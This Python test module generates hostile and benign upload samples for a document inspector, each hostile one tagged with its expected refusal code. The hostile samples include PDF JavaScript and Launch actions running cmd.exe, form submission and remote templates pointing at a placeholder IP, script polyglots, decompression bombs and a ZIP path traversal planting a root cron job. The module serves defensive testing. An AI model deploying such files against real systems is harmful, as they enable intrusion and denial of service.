"""Hostile and benign files, generated in code (no binary blobs in the repository).

PDFs are written by hand, byte by byte, so that each one carries exactly the trick it tests: an object
stream compressed with FlateDecode, a cross-reference stream, a name escape, an incremental update
appended to a clean file, an object left over from an earlier revision. ZIP files are built with
``zipfile`` and then byte-patched (encryption flag, compression method, CRC). Images get a header that
declares what the pixels do not hold. Each hostile file names the refusal code it must get.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pypdf
from PIL import Image, ImageDraw

# ---------------------------------------------------------------------------------------------
# A PDF writer small enough to read: objects by number, then a classic xref table or an xref stream.

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CONTENT = b"BT /F1 12 Tf 72 760 Td (Giay to hop le) Tj ET"


def stream(dictionary: bytes, data: bytes, *, flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data)
        dictionary += b" /Filter /FlateDecode"
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def base_objects(catalog_extra: bytes = b"", page_extra: bytes = b"") -> dict[int, bytes]:
    """A one-page document: catalog 1, pages 2, page 3, content 4, font 5."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        4: stream(b"", CONTENT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def build_pdf(
    objects: dict[int, bytes],
    *,
    compressed: dict[int, bytes] | None = None,
    header: bytes = HEADER,
    unlisted: dict[int, bytes] | None = None,
) -> bytes:
    """A complete PDF. ``compressed`` objects go into one FlateDecode object stream listed by an xref
    stream (PDF 1.5); ``unlisted`` objects are written but no xref section mentions them."""
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    for number, body in sorted((unlisted or {}).items()):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if not compressed:
        size = max(offsets) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
        return bytes(out)
    # Object stream: "number offset ..." pairs, then the objects, all deflated.
    stm_number = max([*objects, *compressed]) + 1
    pairs, bodies = [], b""
    for number, body in sorted(compressed.items()):
        pairs.append(b"%d %d" % (number, len(bodies)))
        bodies += body + b"\n"
    head = b" ".join(pairs) + b"\n"
    offsets[stm_number] = len(out)
    out += b"%d 0 obj\n" % stm_number
    out += stream(b"/Type /ObjStm /N %d /First %d" % (len(compressed), len(head)), head + bodies, flate=True)
    out += b"\nendobj\n"
    xref_number = stm_number + 1
    size = xref_number + 1
    rows = b""
    index = {number: i for i, number in enumerate(sorted(compressed))}
    for number in range(size):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in compressed:
            rows += struct.pack(">BIH", 2, stm_number, index[number])
        elif number == xref_number:
            rows += struct.pack(">BIH", 1, len(out), 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 0xFFFF)
    xref = len(out)
    out += b"%d 0 obj\n" % xref_number
    out += stream(b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size, rows, flate=True)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def append_update(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """An incremental update: new or replaced objects, an xref section for them, /Prev to the last."""
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    out = bytearray(pdf)
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    size = max(size, max(offsets) + 1)
    xref = len(out)
    out += b"xref\n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    return bytes(out)


def clean_pdf() -> bytes:
    return build_pdf(base_objects())


def link_page(action: bytes, subtype: bytes = b"/Link") -> dict[int, bytes]:
    """The one-page document with an annotation (object 6) whose /A is ``action``."""
    objects = base_objects(page_extra=b"/Annots [6 0 R]")
    objects[6] = b"<< /Type /Annot /Subtype " + subtype + b" /Rect [72 700 300 720] /A " + action + b" >>"
    return objects


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("mat-khau")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# ZIP-based office files, and OLE2 compound files for the legacy formats.

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "</Types>"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
ROOT_REL = (
    '<Relationship Id="rId1" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
)
HYPERLINK_REL = (
    '<Relationship Id="rId9" Target="https://dichvucong.gov.vn/" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
)
TEMPLATE_REL = (
    '<Relationship Id="rId1" Target="http://203.0.113.7/mau.dotm" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>Đơn đề nghị cấp giấy phép xây dựng</w:t></w:r></w:p>"
    "</w:body></w:document>"
)


def docx(extra: dict[str, bytes | str] | None = None, *, main: str = DOCX_MAIN) -> bytes:
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": CONTENT_TYPES.format(main=main),
        "_rels/.rels": RELS.format(ROOT_REL),
        "word/document.xml": DOCUMENT,
        "word/_rels/document.xml.rels": RELS.format(HYPERLINK_REL),
    }
    members.update(extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


ODF_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">{encryption}'
    "</manifest:file-entry></manifest:manifest>"
)
ODF_ENCRYPTION = (
    '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
    '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
    "</manifest:encryption-data>"
)
ODF_CONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
    "<office:body><office:text><text:p>Tờ khai</text:p></office:text></office:body></office:document-content>"
)
ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
ODS_MIMETYPE = "application/vnd.oasis.opendocument.spreadsheet"


def odf(
    mimetype: str = ODT_MIMETYPE, extra: dict[str, str] | None = None, *, encrypted: bool = False
) -> bytes:
    """An OpenDocument file as LibreOffice writes it: ``mimetype`` first and stored, then the rest."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        manifest = ODF_MANIFEST.format(mimetype=mimetype, encryption=ODF_ENCRYPTION if encrypted else "")
        for name, body in {
            "content.xml": ODF_CONTENT,
            "META-INF/manifest.xml": manifest,
            **(extra or {}),
        }.items():
            archive.writestr(name, body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def patch_zip(data: bytes, patch: Callable[[bytearray, int, bool], None]) -> bytes:
    """Apply ``patch(buffer, offset, central)`` at every local header and central directory entry."""
    buffer = bytearray(data)
    for signature, central in ((b"PK\x03\x04", False), (b"PK\x01\x02", True)):
        for match in re.finditer(re.escape(signature), data):
            patch(buffer, match.start(), central)
    return bytes(buffer)


def _encrypted_flag(buffer: bytearray, at: int, central: bool) -> None:
    buffer[at + (8 if central else 6)] |= 0x01


def _method_99(buffer: bytearray, at: int, central: bool) -> None:
    struct.pack_into("<H", buffer, at + (10 if central else 8), 99)


def _bad_crc(buffer: bytearray, at: int, central: bool) -> None:
    offset = at + (16 if central else 14)
    struct.pack_into("<I", buffer, offset, struct.unpack_from("<I", buffer, offset)[0] ^ 0xDEADBEEF)


def zip_bomb() -> bytes:
    return docx({"word/media/bom.xml": b"\x00" * (40 * 1024 * 1024)})


def overlapping_zip() -> bytes:
    """Two central directory entries (different names) that point at the same local data."""
    data = docx({"word/a.xml": "<a/>" * 100})
    directory = data.index(b"PK\x01\x02")
    entries = [m.start() for m in re.finditer(b"PK\x01\x02", data)]
    last = entries[-1]
    target = struct.unpack_from("<I", data, entries[0] + 42)[0]
    buffer = bytearray(data)
    struct.pack_into("<I", buffer, last + 42, target)
    assert directory
    return bytes(buffer)


def ole(streams: dict[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A minimal OLE2 compound file (512-byte sectors): FAT in sector 0, directory in sector 1, then
    each stream (padded to 4096 bytes so that it lives in regular sectors)."""
    size = 512
    entries = [("Root Entry", 5, 0xFFFFFFFE, 0)]
    fat = [0xFFFFFFFD, 0xFFFFFFFE]  # sector 0: the FAT itself; sector 1: the directory (one sector)
    body = b""
    for name, data in streams.items():
        data = data.ljust(4096, b"\x00")
        count = -(-len(data) // size)
        first = len(fat)
        fat.extend([*range(first + 1, first + count), 0xFFFFFFFE])
        entries.append((name, 2, first, len(data)))
        body += data.ljust(count * size, b"\x00")
    entries.extend((name, 1, 0xFFFFFFFE, 0) for name in storages)
    assert len(entries) <= 4 and len(fat) <= 128
    directory = b""
    for index, (name, kind, start, length) in enumerate(entries):
        encoded = (name + "\x00").encode("utf-16-le")
        child = 1 if index == 0 and len(entries) > 1 else 0xFFFFFFFF
        right = index + 1 if 0 < index < len(entries) - 1 else 0xFFFFFFFF
        directory += (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", 0xFFFFFFFF, right, child)
            + b"\x00" * 36
            + struct.pack("<IQ", start, length)
        )
    directory = directory.ljust(size, b"\x00")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    )
    fat_sector = struct.pack(f"<{len(fat)}I", *fat).ljust(size, b"\xff")
    return header.ljust(size, b"\x00") + fat_sector + directory + body


def word_fib(encrypted: bool = False) -> bytes:
    flags = 0x0100 if encrypted else 0
    return struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x042A, 0, flags)


def xls_stream(encrypted: bool = False) -> bytes:
    records = struct.pack("<HH", 0x0809, 16) + b"\x00" * 16
    if encrypted:
        records += struct.pack("<HH", 0x002F, 6) + b"\x00" * 6
    return records + struct.pack("<HH", 0x000A, 0)


# ---------------------------------------------------------------------------------------------
# Images


def png(size: tuple[int, int] = (600, 800), mode: str = "L") -> bytes:
    image = Image.new(mode, size, "white")
    ImageDraw.Draw(image).text((20, 20), "GIAY KHAI SINH", fill="black")
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A small PNG whose IHDR claims ``width``×``height`` (CRC recomputed, so only the size lies)."""
    data = bytearray(png((64, 64)))
    struct.pack_into(">II", data, 16, width, height)
    struct.pack_into(">I", data, 29, zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def jpeg(size: tuple[int, int] = (600, 800), *, progressive: bool = False) -> bytes:
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).text((20, 20), "CCCD", fill="black")
    out = io.BytesIO()
    image.save(out, "JPEG", progressive=progressive)
    return out.getvalue()


def jpeg_declaring(width: int, height: int) -> bytes:
    data = bytearray(jpeg((64, 64)))
    at = data.index(b"\xff\xc0")  # baseline start-of-frame: length, precision, height, width
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def mpo(*, second: tuple[int, int] | None = None) -> bytes:
    """A JPEG holding two pictures (MPO, as some phones write); ``second``: what the second declares."""
    pictures = [Image.new("RGB", (64, 64), colour) for colour in ("white", "grey")]
    out = io.BytesIO()
    pictures[0].save(out, "MPO", save_all=True, append_images=pictures[1:])
    data = bytearray(out.getvalue())
    if second is not None:
        at = data.index(b"\xff\xc0", data.index(b"\xff\xc0") + 2)  # the second picture's frame header
        struct.pack_into(">HH", data, at + 5, second[1], second[0])
    return bytes(data)


def tiff(pages: int = 2, size: tuple[int, int] = (620, 877)) -> bytes:
    frames = [Image.new("1", size, 1) for _ in range(pages)]
    for number, frame in enumerate(frames, start=1):
        ImageDraw.Draw(frame).text((20, 20), f"Trang {number}", fill=0)
    out = io.BytesIO()
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:], compression="group4")
    return out.getvalue()


def tiff_declaring(width: int, height: int) -> bytes:
    data = bytearray(tiff(1, (64, 64)))
    (first,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, first)
    for index in range(count):
        at = first + 2 + 12 * index
        tag, kind = struct.unpack_from("<HH", data, at)
        if tag in (256, 257):  # ImageWidth, ImageLength
            value = width if tag == 256 else height
            struct.pack_into("<HHII", data, at, tag, 4, 1, value)
            assert kind in (3, 4)
    return bytes(data)


# ---------------------------------------------------------------------------------------------
# The corpus


@dataclass(frozen=True)
class Sample:
    name: str  # an upload's file name
    make: Callable[[], bytes]
    code: str  # the refusal code (without the "file_" the services add); "" for a benign file
    words: str = ""  # a few words the refusal message must contain


def _js_in_old_revision() -> bytes:
    first = build_pdf(base_objects(b"/OpenAction 6 0 R") | {6: b"<< /S /JavaScript /JS (app.alert(1)) >>"})
    return append_update(first, {1: base_objects()[1]})  # the catalog replaced: 6 is left behind


def _js_orphan() -> bytes:
    return build_pdf(base_objects(), unlisted={9: b"<< /S /JavaScript /JS (this.exportDataObject()) >>"})


def _launch_update() -> bytes:
    page = base_objects(page_extra=b"/Annots [6 0 R]")[3]
    return append_update(
        clean_pdf(),
        {
            3: page,
            6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>",
        },
    )


def _names_tree_js() -> bytes:
    objects = base_objects(b"/Names << /JavaScript 6 0 R >>")
    objects[6] = b"<< /Names [(init) 7 0 R] >>"
    objects[7] = b"<< /S /JavaScript /JS 8 0 R >>"
    objects[8] = stream(b"", b"app.launchURL('http://203.0.113.7/');", flate=True)
    return build_pdf(objects)


def _embedded_file() -> bytes:
    objects = base_objects(b"/Names << /EmbeddedFiles << /Names [(hoadon.exe) 6 0 R] >> >>")
    objects[6] = b"<< /Type /Filespec /F (hoadon.exe) /EF << /F 7 0 R >> >>"
    objects[7] = stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 not really", flate=True)
    return build_pdf(objects)


def _file_attachment() -> bytes:
    objects = base_objects(page_extra=b"/Annots [6 0 R]")
    objects[6] = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS (a.exe) >>"
    return build_pdf(objects)


def _rich_media() -> bytes:
    objects = base_objects(page_extra=b"/Annots [6 0 R]")
    objects[6] = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaContent << >> >>"
    return build_pdf(objects)


def _xfa() -> bytes:
    objects = base_objects(b"/AcroForm << /Fields [] /XFA 6 0 R >>")
    objects[6] = stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    return build_pdf(objects)


def _page_aa() -> bytes:
    return build_pdf(base_objects(page_extra=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"))


def _document_aa() -> bytes:
    return build_pdf(base_objects(b"/AA << /WC << /S /Named /N /Print >> >>"))


def _indirect_action_type() -> bytes:
    # "/S 7 0 R" where object 7 is the name /Launch: a reader resolves it, so must the inspector.
    objects = link_page(b"<< /S 7 0 R /F (cmd.exe) >>")
    objects[7] = b"/Launch"
    return build_pdf(objects)


def _html_header() -> bytes:
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def _html_in_first_kb() -> bytes:
    return clean_pdf().replace(HEADER, HEADER + b"%<html><script>alert(1)</script></html>\n", 1)


def _zip_after_eof() -> bytes:
    return clean_pdf() + docx()


def _objstm_bomb() -> bytes:
    # 40 MB of spaces deflate to ~40 KB: over the 32 MB bound for one decoded stream.
    objects = base_objects()
    return build_pdf(objects, compressed={6: b"<< /Filler true >>" + b" " * (40 * 1024 * 1024)})


HOSTILE: list[Sample] = [
    # PDF: active content wherever it lives
    Sample(
        "openaction-js.pdf",
        lambda: build_pdf(base_objects(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
        "pdf_javascript",
        "JavaScript",
    ),
    Sample(
        "name-escape-js.pdf",
        lambda: build_pdf(base_objects(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
        "pdf_javascript",
        "JavaScript",
    ),
    Sample(
        "objstm-js.pdf",
        lambda: build_pdf(
            base_objects(b"/OpenAction 6 0 R"),
            compressed={6: b"<< /S /JavaScript /JS (app.alert('trong luong doi tuong')) >>"},
        ),
        "pdf_javascript",
        "luồng đối tượng",
    ),
    Sample("names-tree-js.pdf", _names_tree_js, "pdf_javascript", "/Names /JavaScript"),
    Sample("indirect-action-type.pdf", _indirect_action_type, "pdf_launch", "Launch"),
    Sample("old-revision-js.pdf", _js_in_old_revision, "pdf_javascript", "phần cũ"),
    Sample("orphan-js.pdf", _js_orphan, "pdf_javascript", "JavaScript"),
    Sample(
        "launch-escaped.pdf",
        lambda: build_pdf(link_page(b"<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>")),
        "pdf_launch",
        "Launch",
    ),
    Sample("launch-update.pdf", _launch_update, "pdf_launch", "Launch"),
    Sample("page-aa.pdf", _page_aa, "pdf_auto_action", "trang"),
    Sample("document-aa.pdf", _document_aa, "pdf_auto_action", "cấp tài liệu"),
    Sample(
        "openaction-uri.pdf",
        lambda: build_pdf(base_objects(b"/OpenAction << /S /URI /URI (https://203.0.113.7/) >>")),
        "pdf_open_action",
        "khi mở",
    ),
    Sample(
        "submitform.pdf",
        lambda: build_pdf(
            link_page(b"<< /S /SubmitForm /F << /FS /URL /F (https://203.0.113.7/thu) >> >>", b"/Widget")
        ),
        "pdf_form_action",
        "SubmitForm",
    ),
    Sample(
        "resetform.pdf",
        lambda: build_pdf(link_page(b"<< /S /ResetForm >>", b"/Widget")),
        "pdf_form_action",
        "ResetForm",
    ),
    Sample(
        "gotor-unc.pdf",
        lambda: build_pdf(
            link_page(b"<< /S /GoToR /F (\\\\\\\\203.0.113.7\\\\share\\\\a.pdf) /D [0 /Fit] >>")
        ),
        "pdf_remote_action",
        "GoToR",
    ),
    Sample("unknown-action.pdf", lambda: build_pdf(link_page(b"<< /S /Foo >>")), "pdf_action", "Foo"),
    Sample("embedded-file.pdf", _embedded_file, "pdf_embedded_file", "tệp nhúng"),
    Sample("file-attachment.pdf", _file_attachment, "pdf_embedded_file", "FileAttachment"),
    Sample("richmedia.pdf", _rich_media, "pdf_rich_media", "RichMedia"),
    Sample("xfa.pdf", _xfa, "pdf_xfa", "XFA"),
    Sample(
        "javascript-uri.pdf",
        lambda: build_pdf(link_page(b"<< /S /URI /URI (javascript:alert(1)) >>")),
        "pdf_unsafe_link",
        "javascript:alert(1)",
    ),
    Sample(
        "file-uri.pdf",
        lambda: build_pdf(link_page(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")),
        "pdf_unsafe_link",
        "file:",
    ),
    Sample("encrypted.pdf", encrypted_pdf, "pdf_encrypted", "mã hóa"),
    Sample("truncated.pdf", lambda: clean_pdf()[:300], "pdf_malformed", "bị hỏng"),
    Sample("html-with-pdf-header.pdf", _html_header, "pdf_malformed", "bị hỏng"),
    Sample("objstm-bomb.pdf", _objstm_bomb, "pdf_too_complex", "giới hạn"),
    # Polyglots
    Sample("pdf-then-zip.pdf", _zip_after_eof, "pdf_polyglot", "sau dấu kết thúc"),
    Sample("pdf-with-html.pdf", _html_in_first_kb, "pdf_polyglot", "HTML"),
    Sample(
        "html-then-pdf.pdf", lambda: b"<html><script>alert(1)</script>" + clean_pdf(), "pdf_polyglot", "%PDF-"
    ),
    # Something else behind a PDF's name
    Sample(
        "setup.pdf",
        lambda: b"MZ\x90\x00\x03" + b"\x00" * 200 + b"This program cannot be run in DOS mode",
        "type_not_allowed",
        "EXE",
    ),
    Sample(
        "page.pdf",
        lambda: b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "type_not_allowed",
        "HTML",
    ),
    Sample(
        "logo.pdf",
        lambda: (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
        ),
        "type_not_allowed",
        "SVG",
    ),
    Sample("empty.pdf", lambda: b"", "empty", "rỗng"),
    # Office files
    Sample("encrypted-flag.docx", lambda: patch_zip(docx(), _encrypted_flag), "office_encrypted", "mã hóa"),
    Sample("method-99.docx", lambda: patch_zip(docx(), _method_99), "zip_method", "số 99"),
    Sample("bad-crc.docx", lambda: patch_zip(docx(), _bad_crc), "office_malformed", "CRC"),
    Sample("truncated.docx", lambda: docx()[:-200], "office_malformed", "không đầy đủ"),
    Sample("bomb.docx", zip_bomb, "zip_bomb", "tỉ lệ nén"),
    Sample("overlap.docx", overlapping_zip, "office_malformed", "chồng lên nhau"),
    Sample("traversal.docx", lambda: docx({"../../../etc/cron.d/x": "* * * * * root sh"}), "zip_path", "../"),
    Sample("vba.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}), "macro", "macro VBA"),
    Sample("macro-enabled.docx", lambda: docx(main=DOCM_MAIN), "macro", "macroEnabled"),
    Sample(
        "remote-template.docx",
        lambda: docx({"word/_rels/settings.xml.rels": RELS.format(TEMPLATE_REL)}),
        "office_external",
        "attachedTemplate",
    ),
    Sample("basic-macro.odt", lambda: odf(extra={"Basic/Standard/Module1.xml": "<x/>"}), "macro", "Basic/"),
    Sample("password.odt", lambda: odf(encrypted=True), "office_encrypted", "mật khẩu"),
    Sample("macro.xls", lambda: ole({"Workbook": xls_stream()}, ("_VBA_PROJECT_CUR",)), "macro", "macro"),
    Sample(
        "password.doc",
        lambda: ole({"WordDocument": word_fib(encrypted=True)}),
        "office_encrypted",
        "mật khẩu",
    ),
    Sample(
        "password.xls", lambda: ole({"Workbook": xls_stream(encrypted=True)}), "office_encrypted", "mật khẩu"
    ),
    # Images
    Sample("huge.png", lambda: png_declaring(7700, 7700), "image_too_large", "7700×7700"),
    Sample("giant.jpg", lambda: jpeg_declaring(65000, 65000), "image_too_large", "4225.0 triệu điểm ảnh"),
    Sample("huge.tif", lambda: tiff_declaring(50000, 50000), "image_too_large", "2500.0 triệu điểm ảnh"),
    Sample("big.tif", lambda: tiff_declaring(8000, 8000), "image_too_large", "(trang 1) quá lớn: 8000×8000"),
    Sample("many-pages.tif", lambda: tiff(301, (16, 16)), "too_many_pages", "300"),
    Sample(
        "mpo-second-huge.jpg",
        lambda: mpo(second=(9000, 9000)),
        "image_too_large",
        "(trang 2) quá lớn: 9000×9000",
    ),
    Sample("truncated.png", lambda: png()[:-40], "image_malformed", "bị hỏng"),
    Sample("truncated.jpg", lambda: jpeg()[:400], "image_malformed", "bị hỏng"),
]


def _outline_pdf() -> bytes:
    """pypdf output with bookmarks (GoTo actions) and an /OpenAction that is a plain destination."""
    writer = pypdf.PdfWriter()
    for _ in range(3):
        writer.add_blank_page(595, 842)
    writer.add_outline_item(title="Phần I", page_number=0)
    writer.add_outline_item(title="Phần II", page_number=2)
    writer._root_object[pypdf.generic.NameObject("/OpenAction")] = pypdf.generic.ArrayObject(
        [writer.pages[0].indirect_reference, pypdf.generic.NameObject("/Fit")]
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _links_pdf() -> bytes:
    """Hand-written: a GoTo /OpenAction, an https link, a mailto link, a Named action."""
    objects = base_objects(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", b"/Annots [6 0 R 7 0 R 8 0 R]")
    objects[6] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://dichvucong.gov.vn/) >> >>"
    )
    objects[7] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 680 300 700] /A << /S /URI /URI (mailto:motcua@hungyen.gov.vn) >> >>"
    )
    objects[8] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 660 300 680] /A << /Type /Action /S /Named /N /NextPage >> >>"
    )
    return build_pdf(objects)


def weasyprint_pdf() -> bytes:
    import weasyprint

    html = (
        "<h1>QUYẾT ĐỊNH</h1><p>Căn cứ <a href='https://vbpl.vn/'>Nghị định 61/2018/NĐ-CP</a>.</p>"
        "<p style='page-break-before: always'>Trang 2</p>"
    )
    return bytes(weasyprint.HTML(string=html).write_pdf())


def pillow_pdf() -> bytes:
    out = io.BytesIO()
    pages = [Image.new("L", (1240, 1754), 255) for _ in range(2)]
    pages[0].save(out, "PDF", resolution=150, save_all=True, append_images=pages[1:])
    return out.getvalue()


def xlsx() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["STT", "Họ và tên", "Số CCCD"])
    sheet.append([1, "Nguyễn Văn A", "033090001234"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


BENIGN: list[Sample] = [
    Sample("scan.jpg", lambda: jpeg((1240, 1754)), ""),
    Sample("scan-progressive.jpg", lambda: jpeg((1240, 1754), progressive=True), ""),
    Sample("scan.png", lambda: png((1240, 1754)), ""),
    Sample("scan.tif", lambda: tiff(2), ""),
    Sample("two-pictures.jpg", mpo, ""),
    Sample("a4-600dpi.png", lambda: png((4961, 7016)), ""),
    Sample("clean.pdf", clean_pdf, ""),
    Sample("leading-blank.pdf", lambda: b"\xef\xbb\xbf\r\n" + clean_pdf(), ""),
    Sample(
        "compressed.pdf", lambda: build_pdf(base_objects(), compressed={6: b"<< /Producer (motcua) >>"}), ""
    ),
    Sample(
        "update.pdf",
        lambda: append_update(clean_pdf(), {4: stream(b"", CONTENT + b" (sua)", flate=True)}),
        "",
    ),
    Sample("outline.pdf", _outline_pdf, ""),
    Sample("links.pdf", _links_pdf, ""),
    Sample("weasyprint.pdf", weasyprint_pdf, ""),
    Sample("scans.pdf", pillow_pdf, ""),
    Sample("to-khai.docx", docx, ""),
    Sample("danh-sach.xlsx", xlsx, ""),
    Sample("to-khai.odt", odf, ""),
    Sample("bang-ke.ods", lambda: odf(ODS_MIMETYPE), ""),
    Sample("don.doc", lambda: ole({"WordDocument": word_fib()}), ""),
    Sample("bang.xls", lambda: ole({"Workbook": xls_stream()}), ""),
]
